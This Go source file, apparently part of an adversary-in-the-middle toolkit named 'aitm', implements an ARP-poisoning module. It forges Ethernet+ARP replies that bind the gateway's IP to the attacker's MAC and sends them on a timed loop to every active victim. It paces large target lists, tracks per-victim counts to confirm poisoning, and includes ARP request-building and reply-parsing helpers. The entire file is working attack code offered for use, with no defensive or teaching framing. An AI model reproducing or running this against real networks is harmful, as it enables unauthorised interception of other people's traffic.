// Package poison implements the ARP-poisoning cadence: forging replies
// that bind the gateway's IP to the attacker's MAC and sending them to
// every active victim on a fixed interval, serializing each reply as a raw
// Ethernet+ARP frame.
package poison

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"go.uber.org/zap"

	"github.com/relayforge/aitm/linklayer"
	"github.com/relayforge/aitm/target"
)

// pacingThreshold is the target count above which per-target sends are
// spaced out to avoid burst-induced drops.
const pacingThreshold = 20

// intervalThreshold is the target count above which the inter-cycle delay
// is extended from 2s to 3s.
const intervalThreshold = 50

const (
	shortInterval = 2 * time.Second
	longInterval  = 3 * time.Second
	pacingDelay   = 10 * time.Millisecond
	sleepChunk    = 100 * time.Millisecond
)

// Sender abstracts the transmit handle so tests can substitute a fake.
type Sender interface {
	SendFrame([]byte) error
}

var _ Sender = (*linklayer.TxHandle)(nil)

// Poisoner periodically emits forged ARP replies to every active target in
// a Table, binding the gateway IP to the attacker's MAC.
type Poisoner struct {
	tx          Sender
	table       *target.Table
	attackerMAC net.HardwareAddr
	gatewayIP   net.IP
	shutdown    *atomic.Bool
	log         *zap.Logger

	statsMu sync.Mutex
	stats   map[string]uint64
}

// New constructs a Poisoner. shutdown is the single-writer-many-reader
// flag the session coordinator sets to request a stop.
func New(tx Sender, tbl *target.Table, attackerMAC net.HardwareAddr, gatewayIP net.IP,
	shutdown *atomic.Bool, log *zap.Logger) *Poisoner {
	return &Poisoner{
		tx:          tx,
		table:       tbl,
		attackerMAC: attackerMAC,
		gatewayIP:   gatewayIP,
		shutdown:    shutdown,
		log:         log,
		stats:       make(map[string]uint64),
	}
}

// Run executes the poisoning loop until shutdown is requested or there are
// no active targets left. Socket creation happens before Run is called
// (the session coordinator opens the TxHandle); any failure there is
// fatal and never reaches Run.
func (p *Poisoner) Run() error {
	for {
		if p.shutdown.Load() {
			return nil
		}

		active := p.table.ActiveTargets()
		if len(active) == 0 {
			return nil
		}

		pace := len(active) > pacingThreshold
		for _, it := range active {
			frame, err := buildArpReply(p.attackerMAC, p.gatewayIP, it.Target.MAC, it.Target.IP)
			if err != nil {
				p.log.Error("failed to build arp reply", zap.Error(err), zap.String("target_ip", it.Target.IP.String()))
				continue
			}
			if err := p.tx.SendFrame(frame); err != nil {
				p.log.Error("transient arp send error", zap.Error(err), zap.String("target_ip", it.Target.IP.String()))
				continue
			}
			p.incStat(it.Target.IP.String())
			if pace {
				time.Sleep(pacingDelay)
			}
		}

		interval := shortInterval
		if len(active) > intervalThreshold {
			interval = longInterval
		}
		if !p.chunkedSleep(interval) {
			return nil
		}
	}
}

// chunkedSleep sleeps for d in sleepChunk increments, returning false as
// soon as shutdown is observed so the caller can exit within
// sleepChunk + one in-flight send of a stop request.
func (p *Poisoner) chunkedSleep(d time.Duration) bool {
	elapsed := time.Duration(0)
	for elapsed < d {
		if p.shutdown.Load() {
			return false
		}
		chunk := sleepChunk
		if remaining := d - elapsed; remaining < chunk {
			chunk = remaining
		}
		time.Sleep(chunk)
		elapsed += chunk
	}
	return !p.shutdown.Load()
}

func (p *Poisoner) incStat(ip string) {
	p.statsMu.Lock()
	p.stats[ip]++
	p.statsMu.Unlock()
}

// Stats returns a snapshot of forged replies sent per target IP, useful
// for confirming a victim is actually being poisoned without inspecting
// the wire directly.
func (p *Poisoner) Stats() map[string]uint64 {
	p.statsMu.Lock()
	defer p.statsMu.Unlock()
	out := make(map[string]uint64, len(p.stats))
	for k, v := range p.stats {
		out[k] = v
	}
	return out
}

// BuildArpRequest constructs a broadcast ARP request for targetIP, sent
// from attackerMAC with an unset sender-proto (probe-style), used by the
// session coordinator's gateway re-resolution step.
func BuildArpRequest(attackerMAC net.HardwareAddr, targetIP net.IP) ([]byte, error) {
	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	eth := layers.Ethernet{
		SrcMAC:       attackerMAC,
		DstMAC:       broadcast,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := layers.ARP{
		AddrType:          layers.LinkTypeEthernet,
		Protocol:          layers.EthernetTypeIPv4,
		HwAddressSize:     6,
		ProtAddressSize:   4,
		Operation:         layers.ARPRequest,
		SourceHwAddress:   attackerMAC,
		SourceProtAddress: net.IPv4zero.To4(),
		DstHwAddress:      net.HardwareAddr{0, 0, 0, 0, 0, 0},
		DstProtAddress:    targetIP.To4(),
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, &eth, &arp); err != nil {
		return nil, fmt.Errorf("poison: failed to serialize arp request: %w", err)
	}
	return buf.Bytes(), nil
}

// ParseArpReply extracts the sender MAC and IP from a raw frame if it is
// an Ethernet+ARP reply; ok is false for anything else, including
// malformed input.
func ParseArpReply(raw []byte) (mac net.HardwareAddr, ip net.IP, ok bool) {
	if len(raw) < 14 {
		return nil, nil, false
	}
	etherType := uint16(raw[12])<<8 | uint16(raw[13])
	if etherType != uint16(layers.EthernetTypeARP) {
		return nil, nil, false
	}
	var arp layers.ARP
	if err := arp.DecodeFromBytes(raw[14:], gopacket.NilDecodeFeedback); err != nil {
		return nil, nil, false
	}
	if arp.Operation != layers.ARPReply {
		return nil, nil, false
	}
	return net.HardwareAddr(arp.SourceHwAddress), net.IP(arp.SourceProtAddress), true
}

// buildArpReply constructs the 42-byte forged ARP reply: Ethernet(dst=
// targetMAC, src=attackerMAC, type=ARP) + ARP(op=REPLY, sha=attackerMAC,
// spa=gatewayIP, tha=targetMAC, tpa=targetIP).
func buildArpReply(attackerMAC net.HardwareAddr, gatewayIP net.IP, targetMAC net.HardwareAddr, targetIP net.IP) ([]byte, error) {
	eth := layers.Ethernet{
		SrcMAC:       attackerMAC,
		DstMAC:       targetMAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := layers.ARP{
		AddrType:          layers.LinkTypeEthernet,
		Protocol:          layers.EthernetTypeIPv4,
		HwAddressSize:     6,
		ProtAddressSize:   4,
		Operation:         layers.ARPReply,
		SourceHwAddress:   attackerMAC,
		SourceProtAddress: gatewayIP.To4(),
		DstHwAddress:      targetMAC,
		DstProtAddress:    targetIP.To4(),
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, &eth, &arp); err != nil {
		return nil, fmt.Errorf("poison: failed to serialize arp reply: %w", err)
	}
	// Ethernet serialization pads short frames to 60 bytes; trim back to
	// the 14-byte Ethernet header plus the 28-byte ARP body.
	const arpReplyLen = 14 + 28
	return buf.Bytes()[:arpReplyLen], nil
}
